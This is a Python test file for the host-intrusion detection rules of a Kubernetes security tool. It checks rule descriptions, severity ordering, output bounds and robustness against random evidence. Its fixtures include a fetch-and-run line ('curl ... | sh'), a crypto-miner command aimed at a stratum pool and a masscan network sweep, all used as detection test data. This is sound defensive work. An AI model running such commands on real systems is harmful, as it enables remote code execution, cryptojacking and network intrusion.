"""All rules together: their words, their order, and that no evidence makes them fail."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kubewitness.detect.descriptions import descriptions
from kubewitness.detect.host.descriptions import mining_pools
from kubewitness.detect.host.judging import RULES, judge
from kubewitness.model.evidence import Place
from kubewitness.model.host import EventCategory, Firewall, FirewallRule, HostEvent, KernelModule, LogLine
from kubewitness.model.judgement import SEVERITIES
from kubewitness.rules.attack import techniques
from tests.detect.host.making import file, host, iptables, listening, process

NAMES = {rule.__name__ for rule in RULES}
SIGHTINGS = {"login_from_intruder", "connection_with_intruder", "planted_key"}  # made where incidents are known


def test_every_rule_has_its_words_and_every_words_their_rule() -> None:
    assert set(descriptions("host")) == NAMES | SIGHTINGS


@pytest.mark.parametrize("name", sorted(NAMES))
def test_a_rule_speaks_both_languages_and_names_real_techniques(name: str) -> None:
    rule = descriptions("host")[name]
    for text in (rule.title, rule.description, rule.runbook, *rule.falsepositives):
        assert text.en
        assert re.search(r"[\u4e00-\u9fff]", text.zh), text
        assert not re.search(r"[\u4e00-\u9fff][,;:?!]", text.zh), f"half-width mark in {text.zh}"
    assert rule.falsepositives
    assert set(rule.techniques) <= techniques().keys()
    assert rule.id == f"host/{name}"


def test_pools_are_registered_domains() -> None:
    assert mining_pools()
    assert all(re.fullmatch(r"[a-z0-9-]+\.[a-z]+", pool) for pool in mining_pools())


def test_the_worst_comes_first_and_the_same_evidence_gives_the_same_list() -> None:
    machine = host(
        "sh /tmp/.x1mr", "./.system -o stratum+tcp://203.0.113.8:3333 -u x", "masscan 10.0.0.0/8 -p1 --rate=1"
    )
    machine.firewalls.append(iptables(""))
    machine.sockets.append(listening("*", 10255))
    found = judge(machine)
    ranks = [SEVERITIES.index(finding.severity) for finding in found]
    assert ranks == sorted(ranks, reverse=True)
    assert found == judge(machine)
    assert found[0].rule == "host/miner_process"


def test_subjects_are_one_line_and_bounded() -> None:
    found = judge(host("./.system\n-o " + "x" * 100_000))
    assert found
    for finding in found:
        assert "\n" not in finding.subject
        assert len(finding.subject) <= 1000
        assert all(len(line) <= 400 for _, line in finding.places)


def test_ten_thousand_kinds_of_process_are_a_bounded_list_that_counts_all() -> None:
    found = judge(host(*(f"./.x{number}" for number in range(10_000))))
    assert len(found) <= 200
    assert sum(finding.count for finding in found) == 10_000


text = st.text(max_size=200) | st.sampled_from(
    [
        "/tmp/.a",
        "[kworker/0:1]",
        "sh -c curl -s 1.2.3.4/a|sh",
        'ExecSync for "a" failed',
        "ExecSync a 'b' from runtime service failed",
    ]
)
place = Place("x", 1, 0)


@settings(max_examples=60)
@given(text, text, text)
def test_no_evidence_makes_a_rule_fail(one: str, other: str, third: str) -> None:
    machine = host(one, other, f"{one} {other}", f"sh -c {third}")
    machine.logs = [
        LogLine("kubelet", one, "error", f"ExecSync {other}", {"containerID": "a", "cmd": third}, place),
        LogLine("containerd", third, "error", f'ExecSync for "{one}" failed', {"error": other}, place),
    ]
    paths = (
        "/etc/crontab",
        "/etc/ld.so.preload",
        "/root/.bash_history",
        "/etc/systemd/system/a.service",
        "/etc/iptables/rules.v4",
    )
    machine.files = [file(path, f"{one}\n{other}\r\n* * * * * {third}\nExecStart={one}") for path in paths]
    machine.files += [file("/proc/mounts", f"{one} {other} {third}"), file("/proc/sys/kernel/core_pattern", f"|{one}")]
    machine.processes += [
        process(one, container=other[:64], environment=(f"LD_PRELOAD={third}", one), capabilities=other, cwd=third),
        process(other, pid=1, namespaces=(("mnt", one), ("net", third)), visible=False),
    ]
    machine.modules = [KernelModule(one, place, other)]
    categories: tuple[EventCategory, ...] = ("process_creation", "alert", "command")
    machine.events = [
        HostEvent(category, one, place, time=third, command=other, container=one[:64], image=third, argv=(one,))
        for category in categories
    ]
    machine.firewalls = [
        Firewall("ip", one, place, ((one, "INPUT", third),), (FirewallRule("filter", "INPUT", other, place),))
    ]
    judge(machine)
